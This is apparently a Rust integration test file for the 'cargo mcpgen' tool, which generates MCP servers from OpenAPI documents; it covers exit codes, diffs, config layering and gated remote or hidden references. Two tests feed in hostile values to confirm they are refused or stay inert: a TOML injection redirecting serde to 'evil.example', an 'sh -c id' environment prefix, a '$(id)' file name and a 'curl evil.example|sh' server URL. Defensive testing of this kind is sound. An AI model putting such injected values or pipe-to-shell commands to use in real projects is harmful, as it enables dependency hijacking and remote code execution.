//! The `cargo mcpgen` command line: generation, check mode and exit codes.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_cargo-mcpgen"))
}

fn example_spec() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/petstore/openapi.yaml")
}

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("mcpgen-cli-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn generate_then_check_then_detect_staleness() {
    let out = temp_dir("check");
    let run = |extra: &[&str]| {
        bin()
            .args(["mcpgen", "generate"])
            .arg(example_spec())
            .arg("--out")
            .arg(&out)
            .args(extra)
            .output()
            .unwrap()
    };
    let first = run(&[]);
    assert!(first.status.success(), "{}", stderr(&first));
    assert!(stderr(&first).contains("(6 tools)"), "{}", stderr(&first));
    assert!(out.join("Cargo.toml").is_file());
    assert!(out.join("src/mcpgen_runtime/server.rs").is_file());

    let check = run(&["--check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));

    let again = run(&[]);
    assert!(
        stderr(&again).contains("0 files written"),
        "{}",
        stderr(&again)
    );

    std::fs::write(out.join("src/tools.rs"), "// edited by hand\n").unwrap();
    let stale = run(&["--check"]);
    assert_eq!(stale.status.code(), Some(1));
    assert!(
        stderr(&stale).contains("src/tools.rs"),
        "{}",
        stderr(&stale)
    );
    let _ = std::fs::remove_dir_all(&out);
}

#[test]
fn direct_invocation_works_too() {
    let out = temp_dir("direct");
    let output = bin()
        .arg("generate")
        .arg(example_spec())
        .args(["--name", "custom-name", "--quiet", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stderr(&output).is_empty(),
        "--quiet prints nothing: {}",
        stderr(&output)
    );
    let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
    assert!(manifest.contains("name = \"custom-name\""));
    let _ = std::fs::remove_dir_all(&out);
}

#[test]
fn bad_input_exits_2_and_writes_nothing() {
    let out = temp_dir("bad");
    let dir = temp_dir("bad-spec");
    std::fs::create_dir_all(&dir).unwrap();
    let spec = dir.join("spec.json");
    std::fs::write(
        &spec,
        r#"{"openapi": "3.0.0", "paths": {"/a": {"get": {"parameters": [{"in": "query"}]}}}}"#,
    )
    .unwrap();
    let output = bin()
        .args(["generate"])
        .arg(&spec)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let message = stderr(&output);
    assert!(message.contains("spec.json"), "{message}");
    assert!(message.contains("/paths/~1a/get/parameters/0"), "{message}");
    assert!(message.contains("name"), "{message}");
    assert!(!out.exists(), "nothing is written for a bad document");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn diff_reports_breaking_changes() {
    let dir = temp_dir("diff");
    std::fs::create_dir_all(&dir).unwrap();
    let old = std::fs::read_to_string(example_spec()).unwrap();
    let new = old
        // getPetById renamed (same operation), a required query argument added to listPets,
        // deletePet removed, and the limit argument retyped.
        .replace("operationId: getPetById", "operationId: fetchPet")
        .replace("            type: integer\n            format: int32", "            type: string")
        .replace(
            "        - name: X-Request-Id\n          in: header",
            "        - name: owner\n          in: query\n          required: true\n          schema: {type: string}\n        - name: X-Request-Id\n          in: header",
        )
        .replace("    delete:\n      operationId: deletePet", "    x-gone:\n      operationId: deletePet");
    assert_ne!(old, new);
    let new_path = dir.join("new.yaml");
    std::fs::write(&new_path, new).unwrap();

    let text = bin()
        .arg("diff")
        .arg(example_spec())
        .arg(&new_path)
        .output()
        .unwrap();
    assert_eq!(text.status.code(), Some(0), "{}", stderr(&text));
    let out = String::from_utf8_lossy(&text.stdout);
    assert!(
        out.contains("~ tool renamed getPetById -> fetchPet (GET /pets/{petId})  [breaking]"),
        "{out}"
    );
    assert!(
        out.contains("- tool deletePet removed (DELETE /pets/{petId})  [breaking]"),
        "{out}"
    );
    assert!(
        out.contains("~ listPets: argument `owner` added (required)  [breaking]"),
        "{out}"
    );
    assert!(
        out.contains("~ listPets: argument `limit`: integer -> string  [breaking]"),
        "{out}"
    );

    let json = bin()
        .args(["diff", "--format", "json", "--fail-on-breaking"])
        .arg(example_spec())
        .arg(&new_path)
        .output()
        .unwrap();
    assert_eq!(
        json.status.code(),
        Some(1),
        "breaking changes fail with --fail-on-breaking"
    );
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(value["breaking"], true);
    let kinds: Vec<&str> = value["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["kind"].as_str().unwrap())
        .collect();
    assert!(
        kinds.contains(&"tool_renamed") && kinds.contains(&"tool_removed"),
        "{kinds:?}"
    );

    let same = bin()
        .args(["diff", "--fail-on-breaking"])
        .arg(example_spec())
        .arg(example_spec())
        .output()
        .unwrap();
    assert_eq!(same.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&same.stdout).contains("no changes"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn inspect_reports_the_tool_list_budget() {
    let output = bin()
        .args(["inspect", "--format", "json"])
        .arg(example_spec())
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["tools"], 6);
    let bytes = report["listBytes"].as_u64().unwrap();
    assert!(bytes > 1000, "{report}");
    assert_eq!(
        report["estimatedTokens"].as_u64().unwrap(),
        bytes.div_ceil(4)
    );
    let heaviest = report["heaviest"].as_array().unwrap();
    assert_eq!(heaviest.len(), 6);
    let sizes: Vec<u64> = heaviest
        .iter()
        .map(|t| t["bytes"].as_u64().unwrap())
        .collect();
    assert!(
        sizes.windows(2).all(|w| w[0] >= w[1]),
        "heaviest first: {sizes:?}"
    );
    assert!(
        report["suggestions"][0]["change"]
            .as_str()
            .unwrap()
            .contains("pets")
    );
}

#[test]
fn selection_and_prefix_flags() {
    let out = temp_dir("select");
    let output = bin()
        .arg("generate")
        .arg(example_spec())
        .args([
            "--exclude-operation",
            "deletePet",
            "--include-tag",
            "pets",
            "--tool-prefix",
            "pet_",
            "--out",
        ])
        .arg(&out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(stderr(&output).contains("(4 tools)"), "{}", stderr(&output));
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("name: \"pet_listPets\""), "prefixed names");
    assert!(!tools.contains("deletePet") && !tools.contains("get_store_inventory"));

    let bad = bin()
        .arg("generate")
        .arg(example_spec())
        .args(["--include-operation", "listPet", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        stderr(&bad).contains("no operation is named `listPet`"),
        "{}",
        stderr(&bad)
    );
    let _ = std::fs::remove_dir_all(&out);
}

#[test]
fn mcpgen_toml_beside_the_spec_is_read_and_flags_win() {
    let dir = temp_dir("config");
    std::fs::create_dir_all(&dir).unwrap();
    let spec = dir.join("openapi.yaml");
    std::fs::copy(example_spec(), &spec).unwrap();
    std::fs::write(
        dir.join("mcpgen.toml"),
        "crate_name = \"from-config\"\nexclude_tags = [\"pets\"]\n[descriptions]\n\"GET /store/inventory\" = \"Counts by status.\"\n",
    )
    .unwrap();
    let out = dir.join("out");
    let output = bin()
        .arg("generate")
        .arg(&spec)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("from-config (1 tools)"),
        "{}",
        stderr(&output)
    );
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("Counts by status."));

    let output = bin()
        .arg("generate")
        .arg(&spec)
        .args(["--name", "from-flag", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(
        stderr(&output).contains("from-flag (1 tools)"),
        "{}",
        stderr(&output)
    );

    std::fs::write(dir.join("mcpgen.toml"), "exclude_tag = [\"pets\"]\n").unwrap();
    let bad = bin()
        .arg("generate")
        .arg(&spec)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        stderr(&bad).contains("mcpgen.toml:1")
            && stderr(&bad).contains("unknown setting `exclude_tag`"),
        "{}",
        stderr(&bad)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn package_metadata_applies_under_mcpgen_toml_and_flags() {
    let dir = temp_dir("metadata");
    std::fs::create_dir_all(dir.join("api")).unwrap();
    let spec = dir.join("api/openapi.yaml");
    std::fs::copy(example_spec(), &spec).unwrap();
    let manifest = dir.join("Cargo.toml");
    std::fs::write(
        &manifest,
        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
         crate_name = \"from-metadata\"\ntool_prefix = \"pets_\"\nexclude_operations = [\"GET /store/inventory\"]\n",
    )
    .unwrap();
    let out = dir.join("out");
    // Run from inside the package (a folder below its manifest), as `cargo mcpgen` would be.
    let generate = |extra: &[&str]| {
        bin()
            .current_dir(dir.join("api"))
            .arg("generate")
            .arg(&spec)
            .arg("--out")
            .arg(&out)
            .args(extra)
            .output()
            .unwrap()
    };
    let output = generate(&[]);
    assert!(
        stderr(&output).contains("from-metadata (5 tools)"),
        "{}",
        stderr(&output)
    );
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("\"pets_getPetById\""), "the prefix applies");
    assert!(
        !tools.contains("get_store_inventory"),
        "the operation is excluded"
    );

    // mcpgen.toml beside the spec applies on top; flags win over both; lists are joined.
    std::fs::write(
        dir.join("api/mcpgen.toml"),
        "tool_prefix = \"zoo_\"\nexclude_operations = [\"deletePet\"]\n",
    )
    .unwrap();
    let output = generate(&["--name", "from-flag"]);
    assert!(
        stderr(&output).contains("from-flag (4 tools)"),
        "{}",
        stderr(&output)
    );
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("\"zoo_getPetById\"") && !tools.contains("pets_getPetById"));

    // A mistake in the manifest names the file, the line and where in it.
    std::fs::remove_file(dir.join("api/mcpgen.toml")).unwrap();
    std::fs::write(
        &manifest,
        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
         tool_prefix = 3\n",
    )
    .unwrap();
    let bad = generate(&[]);
    assert_eq!(bad.status.code(), Some(2));
    let err = stderr(&bad);
    assert!(
        err.contains("Cargo.toml:6")
            && err.contains("/package/metadata/mcpgen/tool_prefix")
            && err.contains("must be a string"),
        "{err}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn mode_flags_and_settings() {
    let dir = temp_dir("mode");
    let out = dir.join("out");
    let generate = |extra: &[&str]| {
        bin()
            .arg("generate")
            .arg(example_spec())
            .arg("--out")
            .arg(&out)
            .args(extra)
            .output()
            .unwrap()
    };
    let search = generate(&["--mode", "search"]);
    assert!(search.status.success(), "{}", stderr(&search));
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("ServeMode::Search"));
    assert!(tools.contains("openapi: Some("), "the document is embedded");

    let mixed = generate(&["--mode", "mixed", "--include-operation", "getPetById"]);
    assert!(mixed.status.success(), "{}", stderr(&mixed));
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("ServeMode::Mixed"));
    assert_eq!(tools.matches("search_only: true").count(), 5);

    let no_includes = generate(&["--mode", "mixed"]);
    assert_eq!(no_includes.status.code(), Some(2));
    assert!(
        stderr(&no_includes).contains("mixed mode needs include_tags or include_operations"),
        "{}",
        stderr(&no_includes)
    );
    let bad = generate(&["--mode", "everything"]);
    assert_eq!(bad.status.code(), Some(2));

    let bare = generate(&["--no-openapi-resource"]);
    assert!(bare.status.success(), "{}", stderr(&bare));
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("openapi: None"));

    // mcpgen.toml can choose the mode too; the flag wins.
    let spec_dir = dir.join("spec");
    std::fs::create_dir_all(&spec_dir).unwrap();
    let spec = spec_dir.join("openapi.yaml");
    std::fs::copy(example_spec(), &spec).unwrap();
    std::fs::write(spec_dir.join("mcpgen.toml"), "mode = \"search\"\n").unwrap();
    let from_file = bin()
        .arg("generate")
        .arg(&spec)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(from_file.status.success(), "{}", stderr(&from_file));
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("ServeMode::Search"));
    std::fs::write(spec_dir.join("mcpgen.toml"), "mode = \"lots\"\n").unwrap();
    let bad_file = bin()
        .arg("generate")
        .arg(&spec)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(bad_file.status.code(), Some(2));
    assert!(
        stderr(&bad_file).contains("not a mode"),
        "{}",
        stderr(&bad_file)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn runtime_can_be_a_dependency_instead_of_a_copy() {
    let out = temp_dir("runtime-dep");
    let runtime = Path::new(env!("CARGO_MANIFEST_DIR")).join("../runtime");
    let output = bin()
        .arg("generate")
        .arg(example_spec())
        .arg("--runtime-path")
        .arg(&runtime)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
    let expected = format!(
        "mcpgen = {{ path = {}, default-features = false }}",
        serde_json::Value::String(runtime.to_string_lossy().into_owned())
    );
    assert!(manifest.contains(&expected), "{manifest}");
    assert!(
        !manifest.contains("rmcp"),
        "the runtime brings its own dependencies: {manifest}"
    );
    assert!(
        !out.join("src/mcpgen_runtime").exists(),
        "no copy of the runtime"
    );
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("::mcpgen::ApiDescriptor"));

    let versioned = temp_dir("runtime-version");
    let output = bin()
        .arg("generate")
        .arg(example_spec())
        .args(["--runtime-version", "0.1", "--out"])
        .arg(&versioned)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let manifest = std::fs::read_to_string(versioned.join("Cargo.toml")).unwrap();
    assert!(
        manifest.contains("mcpgen = { version = \"0.1\", default-features = false }"),
        "{manifest}"
    );
    let _ = std::fs::remove_dir_all(&out);
    let _ = std::fs::remove_dir_all(&versioned);
}

/// Serves `/schemas/pet.yaml` (which refers to a relative `common.yaml`) and
/// `/schemas/common.yaml` on 127.0.0.1; returns the port and the paths requested so far.
fn serve_pet_schemas() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let requests = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let seen = std::sync::Arc::clone(&requests);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request_line = String::new();
            let _ = reader.read_line(&mut request_line);
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
            }
            let path = request_line
                .split_whitespace()
                .nth(1)
                .unwrap_or("")
                .to_owned();
            seen.lock().unwrap().push(path.clone());
            let (status, body) = match path.as_str() {
                "/schemas/pet.yaml" => (
                    "200 OK",
                    "Pet:\n  type: object\n  properties:\n    id: {$ref: 'common.yaml#/Id'}\n    fetchedName: {type: string}\n",
                ),
                "/schemas/common.yaml" => {
                    ("200 OK", "Id: {type: integer, description: fetched id}\n")
                }
                _ => ("404 Not Found", "no"),
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, requests)
}

#[test]
fn remote_refs_need_the_flag_and_are_fetched_once_with_it() {
    let (port, requests) = serve_pet_schemas();
    let dir = temp_dir("remote-refs");
    std::fs::create_dir_all(&dir).unwrap();
    let spec = dir.join("openapi.yaml");
    let reference = format!("http://127.0.0.1:{port}/schemas/pet.yaml#/Pet");
    std::fs::write(
        &spec,
        format!(
            "openapi: 3.0.3\ninfo: {{title: Remote, version: '1'}}\npaths:\n  /pets:\n    post:\n      operationId: addPet\n      requestBody:\n        content:\n          application/json:\n            schema: {{$ref: '{reference}'}}\n      responses:\n        '200':\n          description: ok\n          content:\n            application/json:\n              schema: {{$ref: '{reference}'}}\n"
        ),
    )
    .unwrap();
    let out = dir.join("out");
    let run = |extra: &[&str]| {
        bin()
            .args(["mcpgen", "generate"])
            .arg(&spec)
            .arg("--out")
            .arg(&out)
            .args(extra)
            // The test server is local: no proxy of the environment may stand in between.
            .env("NO_PROXY", "127.0.0.1")
            .env("no_proxy", "127.0.0.1")
            .output()
            .unwrap()
    };

    let refused = run(&[]);
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains(&reference),
        "{}",
        stderr(&refused)
    );
    assert!(
        stderr(&refused).contains("--allow-remote-refs"),
        "{}",
        stderr(&refused)
    );
    assert!(requests.lock().unwrap().is_empty());
    assert!(!out.exists());

    // A loopback host is refused even with the opt-in, unless named as allowed.
    let internal = run(&["--allow-remote-refs"]);
    assert_eq!(internal.status.code(), Some(2), "{}", stderr(&internal));
    assert!(
        stderr(&internal).contains("--allow-remote-host"),
        "{}",
        stderr(&internal)
    );
    assert!(requests.lock().unwrap().is_empty());

    let fetched = run(&["--allow-remote-refs", "--allow-remote-host", "127.0.0.1"]);
    assert!(fetched.status.success(), "{}", stderr(&fetched));
    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
    assert!(tools.contains("fetchedName"), "{tools}");
    assert!(tools.contains("fetched id"), "{tools}");
    let mut seen = requests.lock().unwrap().clone();
    seen.sort();
    assert_eq!(seen, ["/schemas/common.yaml", "/schemas/pet.yaml"]);

    // A mcpgen.toml can ship beside a third-party document: it may not turn fetching on.
    let inspect = |dir: &std::path::Path| {
        bin()
            .current_dir(dir)
            .args(["mcpgen", "inspect"])
            .arg(&spec)
            .env("NO_PROXY", "127.0.0.1")
            .env("no_proxy", "127.0.0.1")
            .output()
            .unwrap()
    };
    std::fs::write(
        dir.join("mcpgen.toml"),
        "allow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
    )
    .unwrap();
    let refused = inspect(&dir);
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("mcpgen.toml:2: /allow_remote_hosts")
            && stderr(&refused).contains("`allow_remote_hosts` is not read from mcpgen.toml"),
        "{}",
        stderr(&refused)
    );
    // Turning it off there is harmless, and the user's own manifest may turn it on.
    std::fs::write(dir.join("mcpgen.toml"), "allow_remote_refs = false\n").unwrap();
    assert_eq!(inspect(&dir).status.code(), Some(2));
    std::fs::remove_file(dir.join("mcpgen.toml")).unwrap();
    let project = dir.join("project");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(
        project.join("Cargo.toml"),
        "[package]\nname = \"p\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\nallow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
    )
    .unwrap();
    let inspected = inspect(&project);
    assert!(inspected.status.success(), "{}", stderr(&inspected));
    let _ = std::fs::remove_dir_all(&dir);
}

/// Every setting a layer can hold, set one way by the lower layers and the other way by the
/// layer above: the top layer decides, whichever way it goes.
#[test]
fn each_layer_can_set_every_setting_either_way() {
    let dir = temp_dir("layers");
    let project = dir.join("project");
    std::fs::create_dir_all(project.join("api")).unwrap();
    let spec = project.join("api/openapi.yaml");
    std::fs::copy(example_spec(), &spec).unwrap();
    let read = |out: &std::path::Path| -> Vec<(String, String)> {
        ["Cargo.toml", "src/tools.rs", "src/main.rs", "README.md"]
            .iter()
            .map(|f| {
                let text = std::fs::read_to_string(out.join(f)).unwrap_or_default();
                (f.to_string(), text)
            })
            .collect()
    };
    let generate = |out: &std::path::Path, extra: &[&str]| {
        let output = bin()
            .current_dir(&project)
            .arg("generate")
            .arg(&spec)
            .arg("--out")
            .arg(out)
            .args(extra)
            .output()
            .unwrap();
        assert!(output.status.success(), "{extra:?}: {}", stderr(&output));
        read(out)
    };
    let defaults = generate(&dir.join("defaults"), &[]);
    let non_default = "inline_refs = true\nno_output_schemas = true\nskip_broken = true\n\
                       mode = \"search\"\nembed_openapi = false\nmax_description_chars = 5\n\
                       release_profile = false\n";
    let default_values = "inline_refs = false\nno_output_schemas = false\nskip_broken = false\n\
                          mode = \"tools\"\nembed_openapi = true\nmax_description_chars = 0\n\
                          release_profile = true\n";
    let manifest = |table: &str| {
        std::fs::write(
            project.join("Cargo.toml"),
            format!(
                "[package]\nname = \"p\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n{table}"
            ),
        )
        .unwrap();
    };

    // Each layer alone moves every value off its default.
    manifest(non_default);
    let from_manifest = generate(&dir.join("manifest"), &[]);
    assert_ne!(from_manifest, defaults);
    let tools = &from_manifest[1].1;
    assert!(tools.contains("ServeMode::Search") && tools.contains("openapi: None"));
    assert!(!from_manifest[0].1.contains("[profile.release]"));

    // mcpgen.toml puts every value back, over the manifest.
    std::fs::write(project.join("api/mcpgen.toml"), default_values).unwrap();
    assert_eq!(generate(&dir.join("file"), &[]), defaults);

    // Flags move every value off again, over mcpgen.toml ...
    let on_flags = [
        "--inline-refs",
        "--no-output-schemas",
        "--skip-broken",
        "--mode",
        "search",
        "--no-openapi-resource",
        "--max-description-chars",
        "5",
        "--no-release-profile",
    ];
    assert_eq!(generate(&dir.join("flags-on"), &on_flags), from_manifest);

    // ... and put them back over a mcpgen.toml that moved them.
    std::fs::write(project.join("api/mcpgen.toml"), non_default).unwrap();
    let off_flags = [
        "--inline-refs=false",
        "--no-output-schemas=false",
        "--skip-broken=false",
        "--mode",
        "tools",
        "--no-openapi-resource=false",
        "--max-description-chars",
        "0",
        "--no-release-profile=false",
    ];
    assert_eq!(generate(&dir.join("flags-off"), &off_flags), defaults);

    // `skip_broken` shows on a document with a broken operation: a file turns it on, the
    // flag turns it off again.
    std::fs::write(
        &spec,
        "openapi: 3.0.3\ninfo: {title: Broken, version: '1'}\npaths:\n  /a:\n    get:\n      \
         responses:\n        '200':\n          description: ok\n          content:\n            \
         application/json:\n              schema: {$ref: '#/components/schemas/Missing'}\n  \
         /b:\n    get:\n      responses: {'204': {description: ok}}\n",
    )
    .unwrap();
    std::fs::write(project.join("api/mcpgen.toml"), "skip_broken = true\n").unwrap();
    generate(&dir.join("skipped"), &[]);
    let refused = bin()
        .current_dir(&project)
        .arg("generate")
        .arg(&spec)
        .args(["--skip-broken=false", "--out"])
        .arg(dir.join("refused"))
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("points to nothing"),
        "{}",
        stderr(&refused)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// Names and versions that cannot be written into `Cargo.toml` as they are are refused
/// wherever they come from (a flag, `mcpgen.toml`, `[package.metadata.mcpgen]`), with an error
/// that names the setting, and nothing is written.
#[test]
fn hostile_names_are_refused_from_every_settings_source() {
    let dir = temp_dir("hostile-names");
    std::fs::create_dir_all(dir.join("api")).unwrap();
    let spec = dir.join("api/openapi.yaml");
    std::fs::copy(example_spec(), &spec).unwrap();
    let out = dir.join("out");
    let injected = "x\"\n[patch.crates-io]\nserde = { git = \"https://evil.example/serde\" }";
    let generate = |extra: &[&str]| {
        let output = bin()
            .current_dir(dir.join("api"))
            .arg("generate")
            .arg(&spec)
            .arg("--out")
            .arg(&out)
            .args(extra)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
        assert!(!out.exists(), "nothing is written");
        stderr(&output)
    };
    let refused = |err: &str, setting: &str, what: &str| {
        assert!(
            err.contains(&format!("{setting}: ")) && err.contains(what),
            "{err}"
        );
        assert!(!err.contains("\n[patch"), "the value is quoted: {err}");
    };

    refused(
        &generate(&["--name", injected]),
        "crate_name",
        "not a valid crate name",
    );
    refused(&generate(&["--name", "self"]), "crate_name", "reserved");
    refused(
        &generate(&["--crate-version", "1.0.0\"\n[patch.crates-io]"]),
        "crate_version",
        "not a semantic version",
    );
    refused(
        &generate(&["--env-prefix", "X=1 sh -c id;"]),
        "env_prefix",
        "not a valid environment variable prefix",
    );

    let toml_string = |s: &str| serde_json::Value::String(s.to_owned()).to_string();
    std::fs::write(
        dir.join("api/mcpgen.toml"),
        format!("crate_name = {}\n", toml_string(injected)),
    )
    .unwrap();
    refused(&generate(&[]), "crate_name", "not a valid crate name");
    std::fs::write(
        dir.join("api/mcpgen.toml"),
        "crate_version = \"1.0\"\nenv_prefix = \"PETS\"\n",
    )
    .unwrap();
    refused(&generate(&[]), "crate_version", "not a semantic version");
    std::fs::remove_file(dir.join("api/mcpgen.toml")).unwrap();

    std::fs::write(
        dir.join("Cargo.toml"),
        format!(
            "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
             crate_name = {}\n",
            toml_string(injected)
        ),
    )
    .unwrap();
    refused(&generate(&[]), "crate_name", "not a valid crate name");
    std::fs::write(
        dir.join("Cargo.toml"),
        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
         env_prefix = \"pets\\n[patch]\"\n",
    )
    .unwrap();
    refused(
        &generate(&[]),
        "env_prefix",
        "not a valid environment variable prefix",
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// A document's file name and server URL reach the generated files as text: the file name in
/// comments, the URL single-quoted in the README's shell commands.
#[test]
fn hostile_file_names_and_server_urls_stay_inert() {
    let dir = temp_dir("hostile-files");
    std::fs::create_dir_all(&dir).unwrap();
    // A file name may hold anything but `/` and NUL.
    let name = "pets\"\n[patch.crates-io]\nserde = { git = \"evil.example:serde\" }\n`$(id)`.yaml";
    let spec = dir.join(name);
    let text = std::fs::read_to_string(example_spec()).unwrap().replace(
        "http://127.0.0.1:8080/v1",
        "https://x.example/v1; curl evil.example|sh",
    );
    assert!(
        text.contains("curl evil.example"),
        "the example has a server URL"
    );
    std::fs::write(&spec, text).unwrap();
    let out = dir.join("out");
    let output = bin()
        .arg("generate")
        .arg(&spec)
        .args(["--name", "pets-mcp", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));

    let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
    let tables: Vec<&str> = manifest.lines().filter(|l| l.starts_with('[')).collect();
    assert_eq!(
        tables,
        [
            "[package]",
            "[[bin]]",
            "[dependencies]",
            "[profile.release]"
        ],
        "{manifest}"
    );
    // The file name is in the header comment, and nowhere else.
    let mentions: Vec<&str> = manifest.lines().filter(|l| l.contains("evil")).collect();
    assert_eq!(mentions.len(), 1, "{manifest}");
    assert!(
        mentions[0].starts_with("# @generated by mcpgen "),
        "{manifest}"
    );
    for file in ["src/main.rs", "src/tools.rs"] {
        let source = std::fs::read_to_string(out.join(file)).unwrap();
        let header: Vec<&str> = source.lines().take(3).collect();
        assert!(
            header[0].starts_with("//! @generated by mcpgen ")
                && header[0].contains("[patch.crates-io] serde = { git = ")
                && header[1] == "//! Regenerate rather than edit."
                && header[2].is_empty(),
            "{file}: {header:?}"
        );
    }
    let readme = std::fs::read_to_string(out.join("README.md")).unwrap();
    assert!(
        readme.contains(
            "cargo run --release -- --base-url 'https://x.example/v1; curl evil.example|sh'\n"
        ),
        "{readme}"
    );
    assert!(
        readme.contains("generated from ``pets\" [patch.crates-io] serde = { git = \"evil.example:serde\" } `$(id)`.yaml`` by mcpgen"),
        "{readme}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// A reference into a hidden folder is refused unless the user allows it on the command line;
/// a `mcpgen.toml` beside the document cannot allow it.
#[test]
fn hidden_references_need_the_flag() {
    let dir = temp_dir("hidden-refs");
    std::fs::create_dir_all(dir.join(".shared")).unwrap();
    std::fs::write(
        dir.join(".shared/pet.yaml"),
        "Pet: {type: object, properties: {hiddenName: {type: string}}}\n",
    )
    .unwrap();
    let spec = dir.join("openapi.yaml");
    std::fs::write(
        &spec,
        "openapi: 3.0.3\ninfo: {title: Hidden, version: '1'}\npaths:\n  /pets:\n    get:\n      \
         responses:\n        '200':\n          description: ok\n          content:\n            \
         application/json:\n              schema: {$ref: '.shared/pet.yaml#/Pet'}\n",
    )
    .unwrap();
    let inspect = |extra: &[&str]| {
        bin()
            .current_dir(&dir)
            .args(["mcpgen", "inspect"])
            .arg(&spec)
            .args(extra)
            .output()
            .unwrap()
    };
    let refused = inspect(&[]);
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("--allow-hidden-refs"),
        "{}",
        stderr(&refused)
    );
    let allowed = inspect(&["--allow-hidden-refs"]);
    assert!(allowed.status.success(), "{}", stderr(&allowed));

    std::fs::write(dir.join("mcpgen.toml"), "allow_hidden_refs = true\n").unwrap();
    let from_file = inspect(&[]);
    assert_eq!(from_file.status.code(), Some(2), "{}", stderr(&from_file));
    assert!(
        stderr(&from_file).contains("`allow_hidden_refs` is not read from mcpgen.toml"),
        "{}",
        stderr(&from_file)
    );
    let _ = std::fs::remove_dir_all(&dir);
}
